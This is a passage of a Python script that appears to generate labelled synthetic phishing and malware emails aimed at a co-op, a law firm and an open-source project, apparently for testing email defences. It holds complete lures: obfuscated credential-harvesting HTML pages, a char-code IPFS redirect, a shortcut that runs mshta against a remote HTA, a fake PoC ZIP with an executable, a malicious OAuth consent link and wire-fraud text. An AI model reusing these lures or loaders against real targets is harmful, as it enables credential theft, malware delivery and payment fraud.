    hops=[gmail_hop("2002:a05:6512:3c8f:b0:54a:1f0e:9d32", COOPINFO, "e6h")],
    body=mixed(gmail_b("e6"),
               alt(gmail_b("e6a"),
                   "Dear Sir/Madam,\n\nWe are a food trading company and are interested in purchasing organic grains and "
                   "pulses from your cooperative in bulk. Please find our inquiry with quantities attached and send us "
                   "your best price and delivery terms.\n\nBest regards,\nAhmed Rahimi\nProcurement Manager\n",
                   gmail_html(["Dear Sir/Madam,", "", "We are a food trading company and are interested in purchasing "
                               "organic grains and pulses from your cooperative in bulk. Please find our inquiry with "
                               "quantities attached and send us your best price and delivery terms.", "",
                               "Best regards,", "Ahmed Rahimi", "Procurement Manager"])),
               attachment("application/octet-stream", "Order_Inquiry_RFQ-20250912.iso",
                          files.iso_image([("Order_Inquiry_RFQ-20250912.pdf.lnk", _lnk)], "RFQ20250912"))))

_sa = f"https://riverbend-mail-notice.web.app/read?msg=SA-2025-{tok('e7n', 4, DIGITS)}&u={COOPACC}"
add(slug="server-admin-message-hacked-cpanel-firebase", cat="phishing", kind="phish", site="riverbend", rcpt=COOPACC,
    desc="'New message from the server administrator' sent from a hacked Mexican cPanel account (its SPF and default "
         "DKIM pass, no alignment with the co-op) with the co-op's domain as display name; link to Firebase hosting.",
    date="2025-11-04 08:50:02 -0600", from_=("riverbendfood.coop Server Admin", "webmaster@flores-autopartes.com.mx"),
    to=COOPACC, subject="New message from the server administrator",
    mailfrom="webmaster@flores-autopartes.com.mx", ip="192.185.48.211", rdns="gator4211.hostgator.com",
    helo="gator4211.hostgator.com", spf="pass", dkim=[("flores-autopartes.com.mx", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('e7m', 32, HEX)}@flores-autopartes.com.mx>",
    extra=["X-Mailer: PHPMailer 6.5.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=html_only(card(
        "riverbendfood.coop", "You have 1 new message from the server administrator",
        [f"Account: <b>{COOPACC}</b>", "Subject: <i>Important notice about your mailbox configuration</i>",
         "This message is stored securely on the server and can only be read after signing in."],
        label="Read Message", url=_sa, color="#455a64",
        foot="Server Administration &middot; riverbendfood.coop &middot; automated notification")))


# ==========================================================================
# ATTACKS - Brannigan & Shah LLP, branniganshah.com (Zimbra at Tri-County Net)
# ==========================================================================

_fb = (f"https://firebasestorage.googleapis.com/v0/b/zimbra-upgrade-{tok('f1p', 5, HEX)}.appspot.com/o/zimbra.html"
       f"?alt=media&token={tok('f1t', 8, HEX)}-{tok('f1u', 4, HEX)}-{tok('f1v', 4, HEX)}-{tok('f1w', 4, HEX)}-"
       f"{tok('f1x', 12, HEX)}#{NADIA}")
add(slug="zimbra-deactivation-compromised-k12-firebase", cat="phishing", kind="phish", site="brannigan", rcpt=NADIA,
    desc="Compromised Google Workspace account of a school district (auth pass) styled 'Zimbra Administrator' warns "
         "the mailbox will be deactivated; the link is a Firebase Storage-hosted Zimbra login clone.",
    date="2025-02-20 07:55:41 -0500", from_=("Zimbra Administrator", "r.tate@hcschools-k12.org"), to=NADIA,
    subject=f"Zimbra: Your mailbox {NADIA} will be deactivated",
    mailfrom="r.tate@hcschools-k12.org", ip="209.85.166.176", rdns="mail-il1-f176.google.com",
    helo="mail-il1-f176.google.com", spf="pass", dkim=[("hcschools-k12.org", "google", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAL{tok('f1m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:6e02:1b8a:b0:3d4:2f71:8c10", NADIA, "f1h")],
    body=html_only(page(
        '<table width="560" align="center" style="background:#fff;border:1px solid #c8d3e0;margin-top:20px;" cellpadding="0" '
        'cellspacing="0"><tr><td style="background:#0f4d92;color:#fff;padding:14px 22px;font-size:19px;">zimbra '
        '<span style="font-size:12px;">Collaboration Suite</span></td></tr><tr><td style="padding:22px;font-size:14px;'
        f'color:#333;"><p>Dear {NADIA},</p><p>Your mailbox has not been migrated to the new Zimbra 10 server. '
        'Mailboxes that are not migrated will be <b>deactivated</b> and all stored mail removed.</p>'
        f'<p><a href="{_fb}" style="background:#0f4d92;color:#fff;padding:10px 24px;text-decoration:none;">'
        'Migrate my mailbox</a></p><p style="font-size:12px;color:#777;">Zimbra Administrator &middot; '
        'branniganshah.com</p></td></tr></table>', bg="#eef2f7")))

_fax_inner = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>eFax Message Viewer</title></head>
<body style="margin:0;font-family:Arial;background:#dfe6ec">
<div style="width:400px;margin:70px auto;background:#fff;padding:26px;border-radius:4px">
<div style="font-size:22px;color:#c8102e;font-weight:bold">eFax<span style="color:#333">&reg;</span></div>
<p style="font-size:14px">Fax from 312-555-0187 &middot; 4 page(s)<br>Sign in with your email account to view this fax.</p>
<form action="{{post}}" method="post">
<input type="email" name="email" value="{{email}}" style="width:100%;padding:9px;margin:6px 0">
<input type="password" name="password" placeholder="Email password" style="width:100%;padding:9px;margin:6px 0">
<input type="hidden" name="ref" value="efax-{{ref}}">
<button style="width:100%;padding:10px;background:#c8102e;color:#fff;border:0">View Fax</button></form>
</div></body></html>""", post="https://www.mvtrucking-llc.com/wp-content/themes/twentytwenty/inc/fax/next.php",
                  email=PATRICK, ref=tok("f2r", 6, DIGITS))
_fax_enc = pct_escape(_fax_inner)
_fax_chunks = [_fax_enc[i:i + 900] for i in range(0, len(_fax_enc), 900)]
_fax_js = ("<html><head><title>eFax</title></head><body>\n<script>\nvar _p = [];\n"
           + "".join(f"_p.push('{c}');\n" for c in _fax_chunks)
           + "document.open();document.write(decodeURIComponent(_p.join('')));document.close();\n</script>\n</body></html>\n")
add(slug="efax-html-decodeuri-lookalike", cat="phishing", kind="phish", site="brannigan", rcpt=PATRICK,
    desc="eFax imitation from the lookalike efax-messaging.net (own auth pass) with an HTML 'fax' whose page is "
         "assembled from percent-encoded chunks via decodeURIComponent, pre-filling his address and posting to a hacked WordPress.",
    date="2025-04-22 09:37:12 -0500", from_=("eFax", "message@efax-messaging.net"), to=PATRICK,
    subject='eFax message from "312-555-0187" - 4 page(s), Caller-ID: 3125550187',
    mailfrom="message@efax-messaging.net", ip="141.98.11.203", rdns="mail.efax-messaging.net",
    helo="mail.efax-messaging.net", spf="pass", dkim=[("efax-messaging.net", "mail", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('f2m', 24, HEX)}@efax-messaging.net>",
    body=mixed(next_b("f2"),
               html_only(card("eFax", "You have received a 4 page fax",
                              ["<b>From:</b> 312-555-0187", "<b>Received:</b> 22/04/2025 09:36 CST",
                               "<b>Pages:</b> 4", "The fax is attached to this email as an HTML file. Open it in your "
                               "browser to view and print the document."], color="#c8102e",
                              foot="&copy; 2025 Consensus Cloud Solutions, Inc. eFax Corporate")),
               attachment("text/html", "eFax_3125550187_4pages.html", _fax_js.encode())))

add(slug="title-company-wire-change-reply-hijack", cat="phishing", kind="phish", site="brannigan", rcpt=PATRICK,
    desc="Reply-chain hijack from the compromised Microsoft 365 mailbox of a title company (auth pass) on a real "
         "closing thread, switching seller proceeds to a 'new escrow account' and setting Reply-To to a lookalike domain.",
    date="2025-07-09 11:48:25 -0500", from_=("Kelly Dunbar", "kdunbar@heartlandtitleco.com"), to=PATRICK,
    subject="RE: Closing - 41 Orchard Lane, Marion - updated wiring instructions",
    mailfrom="kdunbar@heartlandtitleco.com", ip="40.107.244.67", rdns="mail-dm6nam12on2067.outbound.protection.outlook.com",
    helo="NAM12-DM6-obe.outbound.protection.outlook.com", spf="pass", dkim=[("heartlandtitleco.com", "selector1", "pass")],
    dmarc=("pass", "quarantine"),
    msgid=f"<SA1PR14MB{tok('f3m', 4, DIGITS)}{tok('f3x', 20, UPNUM)}@SA1PR14MB{tok('f3m', 4, DIGITS)}.namprd14.prod.outlook.com>",
    hops=[outlook_hop(f"SA1PR14MB{tok('f3m', 4, DIGITS)}.namprd14.prod.outlook.com", "f3h")],
    extra=["Reply-To: Kelly Dunbar <kdunbar@heartlandtitle-co.com>",
           f"In-Reply-To: <{tok('f3r', 22, HEX)}@branniganshah.com>", f"References: <{tok('f3r', 22, HEX)}@branniganshah.com>"],
    body=alt(outlook_b("f3"),
             "Hi Patrick,\n\nQuick update before Friday's closing. Our operating bank is under a quarterly audit, so "
             "please disregard the wiring instructions in the original closing package. Seller proceeds and the "
             "payoff should go to our new escrow account:\n\nBank: Summit Ridge Bank, N.A.\nAccount name: Heartland "
             "Title Escrow\nRouting: 091017138\nAccount: 7741093358\n\nPlease confirm by reply once your client has "
             "been updated. Calls are going to voicemail today as we're short-staffed.\n\nThanks,\nKelly Dunbar\n"
             "Escrow Officer | Heartland Title Co.\n\n________________________________\nFrom: Patrick Brannigan "
             "<pbrannigan@branniganshah.com>\nSent: Tuesday, July 8, 2025 3:12 PM\nSubject: Closing - 41 Orchard "
             "Lane, Marion\n\nKelly, attached are the signed seller docs. We're on track for Friday 10am.\nPatrick\n",
             outlook_html(["Hi Patrick,", "", "Quick update before Friday's closing. Our operating bank is under a "
                           "quarterly audit, so please disregard the wiring instructions in the original closing "
                           "package. Seller proceeds and the payoff should go to our new escrow account:", "",
                           "Bank: Summit Ridge Bank, N.A.<br>Account name: Heartland Title Escrow<br>Routing: 091017138"
                           "<br>Account: 7741093358", "", "Please confirm by reply once your client has been updated. "
                           "Calls are going to voicemail today as we're short-staffed.", "",
                           "Thanks,<br>Kelly Dunbar<br>Escrow Officer | Heartland Title Co.", "",
                           '<hr style="display:inline-block;width:98%"><b>From:</b> Patrick Brannigan &lt;pbrannigan@'
                           'branniganshah.com&gt;<br><b>Sent:</b> Tuesday, July 8, 2025 3:12 PM<br><b>Subject:</b> '
                           "Closing - 41 Orchard Lane, Marion", "", "Kelly, attached are the signed seller docs. "
                           "We're on track for Friday 10am.<br>Patrick"])))

_dsw = f"https://sign-review.morning-glade-91f2.workers.dev/?e={b64(PATRICK)}&env={tok('f4e', 8, HEX)}"
add(slug="docusign-lookalike-settlement-workers", cat="phishing", kind="phish", site="brannigan", rcpt=PATRICK,
    desc="DocuSign imitation from the lookalike docusign-envelope.net (own auth pass): 'Completed: Settlement "
         "Agreement and Release', with the review link on a workers.dev credential page carrying his address.",
    date="2025-08-14 15:03:37 +0000", from_=("DocuSign Electronic Signature", "dse@docusign-envelope.net"), to=PATRICK,
    subject="Completed: Settlement Agreement and Release - Brannigan & Shah LLP",
    mailfrom="dse@docusign-envelope.net", ip="89.117.153.42", rdns="mail.docusign-envelope.net",
    helo="mail.docusign-envelope.net", spf="pass", dkim=[("docusign-envelope.net", "k1", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('f4m', 32, HEX)}@docusign-envelope.net>",
    body=html_only(card(
        "DocuSign", "All parties have completed: Settlement Agreement and Release",
        ["All signers completed <b>Settlement Agreement and Release - Brannigan &amp; Shah LLP</b>.",
         "Select VIEW COMPLETED DOCUMENT to review and download the executed agreement. For security you will be "
         "asked to confirm your email account."],
        label="VIEW COMPLETED DOCUMENT", url=_dsw, color="#1e4ca1",
        foot="This message was sent to you by DocuSign Electronic Signature Service. Do not share this email.")))

add(slug="debt-collection-retainer-fraud", cat="phishing", kind="phish", site="brannigan", rcpt=RECEPTION,
    desc="Gmail 'Japanese manufacturer' asks the firm to collect a $487,500 debt from a local customer, the opening of "
         "the counterfeit-cheque retainer fraud aimed at law offices; no link or attachment.",
    date="2025-05-19 22:14:06 +0900", from_=("Hiroshi Tanaka", "hiroshi.tanaka.kanto.ind@gmail.com"), to=RECEPTION,
    subject="Legal representation - outstanding payment from customer in your state",
    mailfrom="hiroshi.tanaka.kanto.ind@gmail.com", ip="209.85.214.182", rdns="mail-pl1-f182.google.com",
    helo="mail-pl1-f182.google.com", spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAF{tok('f5m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a17:902:f687:b0:22e:5d7a:1c40", RECEPTION, "f5h")],
    body=plain("Dear Counsel,\n\nI am Hiroshi Tanaka, Director of Sales at Kanto Precision Industries Co., Ltd., "
               "Japan. We are seeking legal representation to recover an outstanding balance of US$487,500.00 from a "
               "customer located in your state, for CNC machine parts delivered in 2024.\n\nThe customer has admitted "
               "the debt but has failed to pay despite several reminders. We believe a demand letter from a local "
               "law firm will resolve this matter quickly.\n\nKindly confirm whether your firm handles commercial debt "
               "collection and send your retainer agreement and fee structure (we can accept contingency). I will "
               "then forward the invoices and customer details.\n\nRegards,\nHiroshi Tanaka\nDirector of Sales\n"
               "Kanto Precision Industries Co., Ltd.\n"))

_court_lnk = files.lnk_shortcut(r"C:\Windows\System32\mshta.exe",
                                "https://courts-efile-notice.com/docs/notice_2025CV01873.hta")
add(slug="court-hearing-notice-zip-lnk", cat="malware", kind="phish", site="brannigan", rcpt=NADIA,
    desc="Court e-filing lookalike (courts-efile-notice.com, own auth pass) sends a 'Notice of Hearing' ZIP containing a "
         ".pdf.lnk that runs mshta against a remote HTA.",
    date="2025-09-30 08:21:48 -0500", from_=("Clerk of Court - eFiling", "efiling-notice@courts-efile-notice.com"),
    to=NADIA, subject="Notice of Hearing - Case No. 2025-CV-01873 - Response Required",
    mailfrom="efiling-notice@courts-efile-notice.com", ip="45.88.186.120", rdns="mail.courts-efile-notice.com",
    helo="mail.courts-efile-notice.com", spf="pass", dkim=[("courts-efile-notice.com", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('f6m', 26, HEX)}@courts-efile-notice.com>",
    body=mixed(php_b("f6"),
               plain("NOTICE OF ELECTRONIC FILING\n\nCase Number: 2025-CV-01873\nDocument: Notice of Hearing\n"
                     "Filed: 09/29/2025\n\nA hearing has been scheduled in the above matter in which you are listed as "
                     "counsel of record. The notice and the scheduling order are attached. Failure to respond may "
                     "result in a default ruling.\n\nThis is an automated notice. Do not reply to this message.\n"),
               attachment("application/zip", "Case_2025-CV-01873_Notice.zip",
                          files.zip_archive([("Notice_of_Hearing_2025-CV-01873.pdf.lnk", _court_lnk)]))))

_bh = f"https://my-bluehost-account-verify.com/hosting/app/#/domains/branniganshah.com/ssl?user={PATRICK}"
add(slug="bluehost-dns-ssl-direct-spoof", cat="phishing", kind="phish", site="brannigan", rcpt=PATRICK,
    desc="Direct spoof of noreply@bluehost.com from a hosting VPS (SPF fail, DMARC fail) saying the DNS zone for "
         "branniganshah.com is suspended after SSL verification failed; link to a lookalike Bluehost login.",
    date="2025-11-18 04:09:55 +0000", from_=("Bluehost", "noreply@bluehost.com"), to=PATRICK,
    subject="Domain branniganshah.com: DNS zone suspended - SSL certificate verification failed",
    mailfrom="noreply@bluehost.com", ip="85.209.11.227", rdns=None, helo="vps-85-209-11-227.hostkey.io",
    spf="fail", dkim=[], dmarc=("fail", "quarantine"), msgid=f"<{tok('f7m', 22, HEX)}@bluehost.com>",
    body=html_only(card(
        "bluehost", "Action required: DNS zone suspended",
        ["Hello,", "We were unable to verify the SSL certificate for <b>branniganshah.com</b>. As a security "
         "precaution the DNS zone has been placed in a <b>suspended</b> state.",
         "Email delivery to @branniganshah.com may stop within 12 hours. Log in to your Bluehost account to verify "
         "domain ownership and reactivate the zone."],
        label="Verify Domain", url=_bh, color="#196bde",
        foot="Bluehost Inc. 10 Corporate Drive, Suite 300, Burlington, MA 01803")))


# ==========================================================================
# ATTACKS - TinkerDB open-source project, tinkerdb.org (own Postfix)
# ==========================================================================

_pypi = f"https://pypi-mail.org/account/verify-email/?token={tok('g1t', 18, URLCH)}.{tok('g1u', 6, URLCH)}.{tok('g1v', 27, URLCH)}"
add(slug="pypi-email-verification-lookalike", cat="phishing", kind="phish", site="tinker", rcpt=JONAS,
    desc="PyPI imitation from the lookalike pypi-mail.org (own auth pass) asking the maintainer to re-verify his "
         "email or lose publishing rights; the link is a PyPI login clone that steals credentials and 2FA codes.",
    date="2025-07-28 13:02:44 +0000", from_=("PyPI", "noreply@pypi-mail.org"), to=JONAS,
    subject="[PyPI] Email verification required for your maintainer account",
    mailfrom="bounce@pypi-mail.org", ip="185.225.74.131", rdns="mail.pypi-mail.org", helo="mail.pypi-mail.org",
    spf="pass", dkim=[("pypi-mail.org", "default", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('g1m', 32, HEX)}@pypi-mail.org>",
    body=alt(php_b("g1"),
             "Someone, perhaps you, has requested maintenance verification for the PyPI account 'jreiter'.\n\n"
             "As part of ongoing security work, all maintainers of projects with more than 10,000 weekly downloads "
             "(tinkerdb) must confirm their email address. Projects with unverified maintainers will be "
             f"quarantined.\n\nVerify your email: {_pypi}\n\nThis link will expire in 6 hours.\n\n-- The PyPI Team\n",
             card("PyPI", "Verify your email address",
                  ["Someone, perhaps you, has requested maintenance verification for the PyPI account <b>jreiter</b>.",
                   "As part of ongoing security work, all maintainers of projects with more than 10,000 weekly "
                   "downloads (<b>tinkerdb</b>) must confirm their email address. Projects with unverified "
                   "maintainers will be quarantined.", "This link will expire in 6 hours."],
                  label="Verify email address", url=_pypi, color="#006dad",
                  foot="You are receiving this because you are a maintainer of a project on PyPI. Python Software Foundation")))

_oauth = (f"https://github.com/login/oauth/authorize?client_id=Ov23li{tok('g2c', 14, ALNUM)}&redirect_uri="
          f"https%3A%2F%2Fgh-security-scan.vercel.app%2Fcallback&scope=repo%2Cworkflow%2Cadmin%3Aorg%2Cdelete_repo"
          f"&state={tok('g2s', 16, HEX)}")
add(slug="github-oauth-consent-lookalike-sender", cat="phishing", kind="phish", site="tinker", rcpt=JONAS,
    desc="'GitHub Security' alert from the lookalike github-notices.com (own auth pass) about suspicious access to the "
         "tinkerdb organisation; the button is a genuine github.com OAuth consent for a malicious app asking for repo, "
         "workflow, admin:org and delete_repo scopes.",
    date="2025-03-17 20:31:08 +0000", from_=("GitHub", "noreply@github-notices.com"), to=JONAS,
    subject="[GitHub] Security alert: suspicious access to the tinkerdb organization",
    mailfrom="noreply@github-notices.com", ip="66.29.137.95", rdns="mail.github-notices.com", helo="mail.github-notices.com",
    spf="pass", dkim=[("github-notices.com", "s1", "pass")], dmarc=("pass", "none"),
    msgid=f"<{tok('g2m', 20, HEX)}.{tok('g2n', 6, DIGITS)}@github-notices.com>",
    body=alt(php_b("g2"),
             "Hey jreiter!\n\nWe detected access to the tinkerdb organization from an unrecognised location "
             "(Jakarta, ID) using a personal access token that was created 2 hours ago.\n\nIf this wasn't you, run "
             "the GitHub Security Scanner to revoke compromised tokens and review recent pushes:\n"
             f"{_oauth}\n\nThanks,\nThe GitHub Team\n",
             card("GitHub", "Suspicious access to tinkerdb",
                  ["Hey jreiter!", "We detected access to the <b>tinkerdb</b> organization from an unrecognised "
                   "location (Jakarta, ID) using a personal access token that was created 2 hours ago.",
                   "If this wasn't you, run the GitHub Security Scanner to revoke compromised tokens and review "
                   "recent pushes."],
                  label="Review activity", url=_oauth, color="#1f883d",
                  foot="GitHub, Inc. &middot; 88 Colin P Kelly Jr Street &middot; San Francisco, CA 94107")))

_mf = f"https://www.mediafire.com/file/{tok('g3f', 15, 'abcdefghijklmnopqrstuvwxyz0123456789')}/tinkerdb-wal-fix-arm64.zip/file"
_gh_comment = ("This is a known problem with the WAL compaction on aarch64, I had the same segfault. Download the "
               f"patched build here: {_mf}\n\npassword: changeme\n\nIn the installer menu select \"gcc\" then "
               "\"arm64\", it replaces the broken libtinker_wal and the crash is gone.")
add(slug="github-issue-comment-mediafire-fix", cat="malware", kind="phish", site="tinker", rcpt=JONAS,
    desc="Genuine GitHub notification (notifications@github.com, auth pass) for a comment posted by a throwaway account "
         "on a real issue, pointing to a password-protected 'fix' archive on MediaFire (malware distribution).",
    date="2025-06-11 02:47:19 -0700", from_=("sloan-dev-tools", "notifications@github.com"), to="tinkerdb/tinkerdb <tinkerdb@noreply.github.com>",
    subject="Re: [tinkerdb/tinkerdb] Segfault when compacting WAL on ARM64 (Issue #1842)",
    mailfrom="noreply@github.com", ip="192.30.252.206", rdns="out-23.smtp.github.com",
    helo="out-23.smtp.github.com", spf="pass", dkim=[("github.com", "pf2023", "pass")], dmarc=("pass", "reject"),
    msgid=f"<tinkerdb/tinkerdb/issues/1842/{tok('g3id', 10, DIGITS)}@github.com>",
    extra=[f"Reply-To: tinkerdb/tinkerdb <reply+A{tok('g3r', 40, UPNUM)}@reply.github.com>",
           "In-Reply-To: <tinkerdb/tinkerdb/issues/1842@github.com>",
           "References: <tinkerdb/tinkerdb/issues/1842@github.com>",
           "List-ID: tinkerdb/tinkerdb <tinkerdb.tinkerdb.github.com>",
           "List-Archive: https://github.com/tinkerdb/tinkerdb",
           "List-Unsubscribe: <mailto:unsub+A" + tok("g3u", 30, UPNUM) + "@reply.github.com>",
           "X-GitHub-Sender: sloan-dev-tools", "X-GitHub-Recipient: jreiter", "X-GitHub-Reason: author",
           "X-GitHub-Notify-Platform: newsies", "Precedence: list"],
    body=alt(f"--==_mimepart_{tok('g3p', 13, HEX)}_{tok('g3q', 4, DIGITS)}",
             f"{_gh_comment}\n\n-- \nReply to this email directly, view it on GitHub:\n"
             f"https://github.com/tinkerdb/tinkerdb/issues/1842#issuecomment-{tok('g3id', 10, DIGITS)}\n"
             "You are receiving this because you authored the thread.\n\nMessage ID: "
             f"<tinkerdb/tinkerdb/issues/1842/{tok('g3id', 10, DIGITS)}@github.com>\n",
             f"<p></p>\n<p dir=\"auto\">This is a known problem with the WAL compaction on aarch64, I had the same "
             f"segfault. Download the patched build here: <a href=\"{_mf}\" rel=\"nofollow\">{_mf}</a></p>\n"
             "<p dir=\"auto\">password: changeme</p>\n<p dir=\"auto\">In the installer menu select \"gcc\" then "
             "\"arm64\", it replaces the broken libtinker_wal and the crash is gone.</p>\n<p style=\"font-size:small;"
             "-webkit-text-size-adjust:none;color:#666;\">&mdash;<br />Reply to this email directly, <a href=\""
             f"https://github.com/tinkerdb/tinkerdb/issues/1842#issuecomment-{tok('g3id', 10, DIGITS)}\">view it on "
             "GitHub</a>.<br />You are receiving this because you authored the thread.</p>\n"))

_poc_readme = ("TinkerDB replication RCE - proof of concept\n==========================================\n\n"
               "Affected: tinkerdb <= 3.8.2 (replication listener, default port 7411)\n\n"
               "1. Start a tinkerdb instance with replication enabled.\n2. Run run_poc.bat (Windows) - it starts the "
               "bundled poc_runner.exe which sends the crafted REPL_SYNC frame.\n3. calc.exe is spawned on the target "
               "host.\n\nPlease do not share before the fix is released.\n")
add(slug="fake-vuln-report-zip-exe", cat="malware", kind="phish", site="tinker", rcpt=SECURITY,
    desc="Proton Mail 'researcher' reports a critical RCE to security@ and attaches a ZIP 'PoC' with a batch file and "
         "a Windows executable, targeting maintainers who test reports on their own machines.",
    date="2025-10-21 17:05:33 +0000", from_=("Aleksei Morozov", "a.morozov.sec@proton.me"), to=SECURITY,
    subject="Critical RCE in TinkerDB replication protocol - PoC attached (CVE pending)",
    mailfrom="a.morozov.sec@proton.me", ip="185.70.43.25", rdns="mail-4325.protonmail.ch", helo="mail-4325.protonmail.ch",
    spf="pass", dkim=[("proton.me", "protonmail", "pass")], dmarc=("pass", "quarantine"),
    msgid=f"<{tok('g4m', 43, URLCH)}=@proton.me>",
    extra=["X-Pm-Message-ID: " + tok("g4x", 40, HEX)],
    body=mixed(f"b1=_{tok('g4b', 40, ALNUM)}",
               plain("Hello TinkerDB security team,\n\nI found a pre-auth remote code execution in the replication "
                     "listener (REPL_SYNC frame length is trusted, heap overflow into the handler table). All versions "
                     "up to 3.8.2 are affected.\n\nThe PoC is attached (Windows build for convenience, run run_poc.bat "
                     "against a test instance). I plan to request a CVE and publish in 14 days unless you need more "
                     "time.\n\nBest,\nAleksei Morozov\nIndependent security researcher\n"),
               attachment("application/zip", "tinkerdb-repl-rce-poc.zip",
                          files.zip_archive([("tinkerdb-repl-rce-poc/README.txt", _poc_readme.encode()),
                                             ("tinkerdb-repl-rce-poc/run_poc.bat",
                                              b"@echo off\r\nstart /b poc_runner.exe --target 127.0.0.1 --port 7411\r\n"),
                                             ("tinkerdb-repl-rce-poc/poc_runner.exe", files.pe_stub())]))))

_ipfs_g5 = "https://cloudflare-ipfs.com/ipfs/Qm" + tok("g5cid", 44, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") + "/mail.html"
_g5_codes = ",".join(str(ord(c)) for c in _ipfs_g5)
_g5_html = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Mail Server Notice</title></head>
<body><p style="font-family:Arial;color:#444">Please wait while we load your mailbox settings...</p>
<script>
var a = [{{codes}}];
var u = ""; for (var i = 0; i < a.length; i++) { u += String.fromCharCode(a[i]); }
var m = "{{mail}}";
setTimeout(function () { location.href = u + "#" + m; }, 400);
</script></body></html>
""", codes=_g5_codes, mail=SECURITY)
add(slug="server-admin-dkim-notice-fromcharcode-ipfs", cat="phishing", kind="phish", site="tinker", rcpt=SECURITY,
    desc="Spoof of 'mail.tinkerdb.org Administrator <postmaster@tinkerdb.org>' (SPF fail, DMARC fail p=quarantine) "
         "claiming a DKIM/SPF misconfiguration; the HTML attachment rebuilds an IPFS gateway URL from char codes and "
         "redirects with the mailbox address in the fragment.",
    date="2025-12-03 09:40:27 +0000", from_=("mail.tinkerdb.org Administrator", "postmaster@tinkerdb.org"), to=SECURITY,
    subject="Mailbox security@tinkerdb.org: DKIM/SPF misconfiguration - outgoing mail suspended",
    mailfrom="postmaster@tinkerdb.org", ip="196.251.72.140", rdns=None, helo="mail.tinkerdb.org",
    spf="fail", dkim=[], dmarc=("fail", "quarantine"), msgid=f"<{tok('g5m', 24, HEX)}@tinkerdb.org>",
    body=mixed(next_b("g5"),
               plain("Dear security@tinkerdb.org,\n\nOur monitoring has detected that outgoing messages from your mailbox "
                     "fail DKIM/SPF verification. Outgoing mail from this account has been temporarily suspended to "
                     "protect the domain reputation.\n\nOpen the attached notice to re-synchronise your mailbox "
                     "settings.\n\nmail.tinkerdb.org Administrator\n"),
               attachment("text/html", "Mailbox_Notice_security@tinkerdb.org.html", _g5_html.encode())))

_sg = (f"https://u3349871.ct.sendgrid.net/ls/click?upn=u001.{tok('g6u', 120, URLCH)}-2FA-3D-3D{tok('g6v', 4, ALNUM)}_"
       f"{tok('g6w', 80, URLCH)}")
add(slug="godaddy-autorenew-sendgrid-lookalike", cat="phishing", kind="phish", site="tinker", rcpt=JONAS,
    desc="GoDaddy imitation sent through a SendGrid account from the lookalike godaddy-account-services.com (SPF and "
         "both DKIM signatures pass) saying auto-renewal of tinkerdb.org failed; SendGrid click-tracking hides the target.",
    date="2025-08-05 15:52:10 +0000", from_=("GoDaddy Renewals", "renewals@godaddy-account-services.com"), to=JONAS,
    subject="Auto-renewal failed for tinkerdb.org - update your payment method",
    mailfrom=f"bounces+3349871-{tok('g6b', 4, HEX)}-{JONAS.replace('@', '=')}@em8812.godaddy-account-services.com",
    ip="149.72.142.33", rdns="o33.ptr8812.godaddy-account-services.com", helo="o33.ptr8812.godaddy-account-services.com",
    spf="pass", dkim=[("godaddy-account-services.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('g6m', 22, URLCH)}@geopod-ismtpd-{tok('g6n', 2, DIGITS)}>",
    body=alt(php_b("g6"),
             "GoDaddy\n\nWe couldn't renew tinkerdb.org.\n\nYour payment method ending in 4417 was declined for the "
             "automatic renewal of tinkerdb.org (1 year, $22.99). The domain expires on 08/07/2025. If it expires, "
             f"your website and email will stop working.\n\nUpdate payment method: {_sg}\n\nCopyright (C) 1999-2025 "
             "GoDaddy Operating Company, LLC. All Rights Reserved.\n",
             card("GoDaddy", "We couldn't renew tinkerdb.org",
                  ["Your payment method ending in <b>4417</b> was declined for the automatic renewal of "
                   "<b>tinkerdb.org</b> (1 year, $22.99).", "The domain expires on <b>08/07/2025</b>. If it expires, "
                   "your website and email will stop working."],
                  label="Update Payment Method", url=_sg, color="#111111",
                  after=[f'<img src="https://u3349871.ct.sendgrid.net/wf/open?upn=u001.{tok("g6o", 90, URLCH)}" '
                         'width="1" height="1" alt="" style="display:none;">'],
                  foot="Copyright &copy; 1999-2025 GoDaddy Operating Company, LLC. All Rights Reserved.")))

_form = f"https://docs.google.com/forms/d/e/1FAIpQLS{tok('g7f', 50, URLCH)}/viewform?usp=sf_link"
add(slug="oss-grant-google-forms-fee", cat="phishing", kind="phish", site="tinker", rcpt=JONAS,
    desc="Gmail 'Open Source Sustainability Fund' congratulates the maintainer on a $12,000 grant and sends him to a "
         "Google Form for bank details and a 'processing fee' (advance-fee fraud through Google Forms).",
    date="2025-11-11 10:26:54 -0500", from_=("Open Source Sustainability Fund", "ossfund.grants@gmail.com"), to=JONAS,
    subject="Congratulations: TinkerDB selected for a $12,000 maintainer grant",
    mailfrom="ossfund.grants@gmail.com", ip="209.85.160.171", rdns="mail-qt1-f171.google.com",
    helo="mail-qt1-f171.google.com", spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAG{tok('g7m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:622a:5a0c:b0:4a6:3f2e:91d0", JONAS, "g7h")],
    body=alt(gmail_b("g7"),
             "Dear TinkerDB maintainers,\n\nWe are pleased to inform you that TinkerDB has been selected for a "
             "US$12,000 maintainer sustainability grant in our Q4 2025 cycle.\n\nTo receive the funds, please "
             f"complete the payout form below within 5 days:\n{_form}\n\nA one-time international transfer "
             "processing fee of US$250 must be paid before the grant is released; instructions are in the form.\n\n"
             "Warm regards,\nGrants Committee\nOpen Source Sustainability Fund\n",
             gmail_html(["Dear TinkerDB maintainers,", "", "We are pleased to inform you that <b>TinkerDB</b> has been "
                         "selected for a <b>US$12,000</b> maintainer sustainability grant in our Q4 2025 cycle.", "",
                         "To receive the funds, please complete the payout form below within 5 days:",
